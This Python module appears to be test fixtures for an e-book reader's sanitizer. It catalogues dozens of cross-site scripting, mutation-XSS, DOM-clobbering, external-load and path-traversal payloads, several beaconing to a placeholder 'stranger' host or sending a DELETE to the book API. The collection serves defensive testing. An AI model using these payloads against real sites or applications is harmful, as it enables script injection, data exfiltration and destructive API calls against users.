"""Markup that tries to run a script, to load from elsewhere, or to call the interface.

Each attempt is told by its name in what it does: `ran("name")` for scripts, an address of the stranger's
with the name for loads. HERE stands for the stranger's address.
"""

import base64

PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def ran(name):
    """The script that all attempts want to run: it leaves a trace, calls the stranger and the API."""
    return (
        f"(window.top.__hostile=window.top.__hostile||[]).push('{name}');"
        f"new Image().src='HERE/script-{name}';"
        f"fetch('/api/books/1?hostile={name}',{{method:'DELETE'}})"
    )


def data_page(name):
    source = f"<script>{ran(name)}</script>"
    return "data:text/html;base64," + base64.b64encode(source.encode()).decode()


SCRIPTS = {
    "script": f"<script>{ran('script')}</script>",
    "script-src": '<script src="evil.js"></script><script src="HERE/evil.js"></script>',
    "module": f'<script type="module">{ran("module")}</script>',
    "onload": f'<img src="pixel.png" onload="{ran("onload")}"/>',
    "onerror": f'<img src="no-such.png" onerror="{ran("onerror")}"/>',
    "onfocus": f'<p tabindex="0" autofocus="autofocus" onfocus="{ran("onfocus")}">focus</p>',
    "ontoggle": f'<details open="open" ontoggle="{ran("ontoggle")}"><summary>x</summary></details>',
    "onanimation": f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{ran("onanimation")}">a</p>',
    "onpointer": f'<p onpointerenter="{ran("onpointer")}" onclick="{ran("onclick")}">press</p>',
    "onvideo": f'<video src="x.mp4" onerror="{ran("onvideo")}"><source onerror="{ran("onsource")}"/></video>',
    "javascript-link": f'<p><a href="javascript:{ran("javascript-link")}">a link</a></p>',
    "javascript-odd": f'<p><a href="  JaVaScRiPt&#9;:{ran("javascript-odd")}">odd link</a> '
    f'<a href="java&#10;script:{ran("javascript-line")}">line link</a> '
    f'<a href="&#1;javascript:{ran("javascript-control")}">control link</a></p>',
    "vbscript": '<p><a href="vbscript:msgbox(1)">visual link</a></p>',
    "data-link": f'<p><a href="{data_page("data-link")}">data link</a></p>',
    "svg-script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ran("svg-script")}</script></svg>',
    "svg-onload": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ran("svg-onload")}"><rect/></svg>',
    "svg-foreign": f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body '
    f'xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{ran("svg-foreign")}"/>'
    f"</body></foreignObject></svg>",
    "svg-animate": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    f'<a><animate attributeName="href" values="javascript:{ran("svg-animate")}"/>'
    f'<text y="20">animated link</text></a>'
    f'<set attributeName="onmouseover" to="{ran("svg-set")}"/></svg>',
    "svg-use": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<use xlink:href="evil.svg#x"/><use href="HERE/use.svg#x"/></svg>',
    "svg-link": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    f'<a xlink:href="javascript:{ran("svg-link")}"><text y="20">svg link</text></a></svg>',
    "mathml": f'<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#x" '
    f'href="javascript:{ran("maction")}"><mi href="javascript:{ran("mi")}">math link</mi>'
    f"</maction></math>",
    "math-namespace": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
    f'onerror={ran("math-namespace").replace(chr(34), "")}&gt;"/></mglyph></table></mtext></math>',
    "template": f'<template><img src="x" onerror="{ran("template")}"/></template>',
    "template-shadow": f'<div><template shadowrootmode="open"><img src="x" onerror="{ran("template-shadow")}"/></template></div>',
    "noscript": f'<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror={ran("noscript")}&gt;">n</p></noscript>',
    "title-mutation": f'<svg><title><style><a title="&lt;/style&gt;&lt;img src=x '
    f'onerror={ran("title-mutation")}&gt;">m</a></style></title></svg>',
    "xmp": f'<xmp><p title="&lt;/xmp&gt;&lt;img src=x onerror={ran("xmp")}&gt;">x</p></xmp>',
    "textarea": f'<textarea><p title="&lt;/textarea&gt;&lt;img src=x onerror={ran("textarea")}&gt;">t</p></textarea>',
    "entity-text": f"<p>&lt;script&gt;{ran('entity-text').replace('<', '&lt;')}&lt;/script&gt;"
    f'&lt;img src=x onerror="{ran("entity-img")}"&gt;</p>',
    "cdata": f'<p><![CDATA[<img src=x onerror="{ran("cdata")}">]]></p>',
    "namespace": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{ran("namespace")}</x:script>',
    "iframe": '<iframe src="evil.html"></iframe><iframe src="HERE/iframe"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{ran("iframe-srcdoc")}&lt;/script&gt;"></iframe>',
    "iframe-data": f'<iframe src="{data_page("iframe-data")}"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{ran("iframe-javascript")}"></iframe>',
    "object": f'<object data="evil.html"></object><object data="{data_page("object")}"></object>'
    '<object data="evil.svg" type="image/svg+xml"></object>',
    "embed": f'<embed src="evil.svg"/><embed src="{data_page("embed")}"/><embed src="HERE/embed"/>',
    "frameset": '<frameset><frame src="HERE/frame"/></frameset><portal src="HERE/portal"></portal>',
    "form": f'<form action="/api/books/1?hostile=form" method="post"><input autofocus="autofocus" '
    f'onfocus="{ran("form-focus")}"/><button formaction="javascript:{ran("formaction")}">press me'
    f'</button><input type="image" src="HERE/input.png"/></form>',
    "isindex": f'<isindex action="javascript:{ran("isindex")}" type="image"/>',
    "marquee": f'<marquee onstart="{ran("marquee")}">m</marquee>',
    "clobber": '<img name="cookie" id="defaultView"/><a id="location" href="HERE/clobber">clobber</a>'
    '<form name="body"><input name="append"/></form><p id="view">view</p>',
    "custom": f'<x-thing is="x-thing" onfocus="{ran("custom")}" tabindex="0">custom</x-thing>',
    "import-map": '<script type="importmap">{"imports":{"/js/":"HERE/"}}</script>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["HERE/rules"]}]}</script>',
}
"""Bodies that try to run a script."""

LOADS = {
    "img": '<img src="HERE/img.png"/><img src="//127.0.0.1:PORT/slashes.png"/>',
    "srcset": '<img src="pixel.png" srcset="HERE/srcset.png 1x, HERE/srcset2.png 2x"/>',
    "picture": '<picture><source srcset="HERE/source.png"/><img src="pixel.png"/></picture>',
    "lazy": '<img loading="lazy" src="HERE/lazy.png"/><img data-src="HERE/data.png"/>',
    "style-attribute": '<p style="background:url(HERE/style.png);list-style-image:url(HERE/list.png)">s</p>',
    "style-escape": r'<p style="background:\75rl(HERE/escape.png);b\61ckground-image:url(HERE/e2.png)">s</p>',
    "style-element": '<style>@import url("HERE/body.css"); body{background:url(HERE/body.png)} '
    "@font-face{font-family:x;src:url(HERE/font.ttf)} p{font-family:x}</style>",
    "link-element": '<link rel="stylesheet" href="HERE/link.css"/><link rel="preload" as="image" '
    'href="HERE/preload.png"/><link rel="dns-prefetch" href="HERE/"/>'
    '<link rel="prefetch" href="HERE/prefetch"/><link rel="preconnect" href="HERE/"/>',
    "meta": '<meta http-equiv="refresh" content="0;url=HERE/refresh"/>',
    "base": '<base href="HERE/"/><img src="relative.png"/>',
    "audio": '<audio src="HERE/audio.mp3" autoplay="autoplay"></audio><video poster="HERE/poster.png" '
    'src="HERE/video.mp4" autoplay="autoplay"><track src="HERE/track.vtt" default="default"/></video>',
    "svg-image": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="HERE/svg.png" width="9" height="9"/><image href="HERE/svg2.png"/>'
    '<filter id="f"><feImage href="HERE/fe.png"/></filter><rect filter="url(HERE/f.svg#f)" '
    'fill="url(HERE/fill.svg#x)" width="9" height="9"/></svg>',
    "table-background": '<table background="HERE/table.png"><tr><td background="HERE/td.png">x</td></tr></table>',
    "body-background": '<p background="HERE/p.png">x</p>',
    "ping": '<p><a href="#x" ping="HERE/ping">ping link</a></p>',
    "attribution": '<img src="pixel.png" attributionsrc="HERE/attribution"/>',
    "manifest-icon": '<link rel="icon" href="HERE/icon.png"/><link rel="manifest" href="HERE/manifest"/>',
    "math-background": '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi background="HERE/math.png" '
    'xlink:href="HERE/math" xmlns:xlink="http://www.w3.org/1999/xlink">x</mi></math>',
    "longdesc": '<img src="pixel.png" longdesc="HERE/longdesc"/><blockquote cite="HERE/cite">q</blockquote>',
}
"""Bodies that try to load from elsewhere."""

CALLS = {
    "img-api": '<img src="../../../api/books/1?hostile=img"/><img src="/api/books/1?hostile=rooted"/>'
    '<img src="../../../../api/books/2/cover?hostile=cover"/>',
    "img-encoded": '<img src="..%2f..%2f..%2fapi%2fbooks%2f1%3fhostile=encoded"/>'
    '<img src="%2e%2e/%2e%2e/%2e%2e/%2e%2e/position?hostile=dots"/>',
    "img-other-book": '<img src="../../../2/resources/OEBPS/secret.png?hostile=other"/>',
    "link-api": '<p><a href="/api/books/1?hostile=link">api link</a> '
    '<a href="../../../api/books/1/file?hostile=file" download="x">file link</a></p>',
    "audio-api": '<audio src="/api/books/1/audio?from=0&amp;voice=heart&amp;hostile=audio" autoplay="autoplay"></audio>',
    "object-api": '<object data="/api/books?hostile=object"></object><iframe src="/api/books?hostile=frame"></iframe>',
    "style-api": '<p style="background:url(/api/books/1/cover?hostile=style)">s</p>',
}
"""Bodies that try to call the interface or to read another book."""

HEADS = {
    "head-script": f"<script>{ran('head-script')}</script>",
    "head-style": '<style>@import "HERE/head.css"; @font-face{font-family:y;src:url("HERE/head.ttf")} '
    "html{background:url(HERE/html.png)}</style>",
    "head-link": '<link rel="stylesheet" href="evil.css"/><link rel="stylesheet" href="HERE/head-link.css"/>',
    "head-meta": '<meta http-equiv="refresh" content="0;url=HERE/head-refresh"/>'
    '<meta http-equiv="Content-Security-Policy" content="script-src *"/>',
    "head-base": '<base href="HERE/" target="_top"/>',
}

FILES = {
    "evil.js": ran("evil.js"),
    "evil.css": '@import "HERE/evil-import.css"; p{background:url(HERE/evil-css.png)}',
    "evil.html": f"<html><body><script>{ran('evil.html')}</script></body></html>",
    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{ran("evil.svg-onload")}">'
    f'<script>{ran("evil.svg")}</script><image href="HERE/evil-svg.png" width="9" height="9"/>'
    f'<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" '
    f'src="HERE/evil-svg-frame"/></foreignObject><g id="x"><rect width="40" height="40"/></g></svg>',
    "fake.png": f"<html><script>{ran('fake.png')}</script></html>",
}


def aimed(text, stranger):
    """The text with the stranger's address in it."""
    return text.replace("HERE", stranger.address).replace("PORT", str(stranger.port))
